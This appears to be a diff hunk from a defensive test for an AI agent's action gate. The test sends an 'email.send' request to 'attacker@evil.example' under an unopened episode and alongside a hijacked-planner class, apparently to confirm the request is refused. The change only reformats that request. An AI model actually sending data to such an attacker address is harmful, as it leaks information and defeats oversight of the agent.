@@ -41,8 +41,12 @@ class FaultyPlanner(HijackedPlanner):
 
 def _foreign_episode(client: ZoneClient) -> str:
     request_id = client.next_id()
-    request = ActionRequest(id=request_id, episode_id="ep-not-open", action="email.send",
-                            args={"to": "attacker@evil.example", "body": "x"})  # fmt: skip
+    request = ActionRequest(
+        id=request_id,
+        episode_id="ep-not-open",
+        action="email.send",
+        args={"to": "attacker@evil.example", "body": "x"},
+    )
     reply = client.call(request, request_id)
     return f"{type(reply).__name__}: {getattr(reply, 'code', '')}"
 
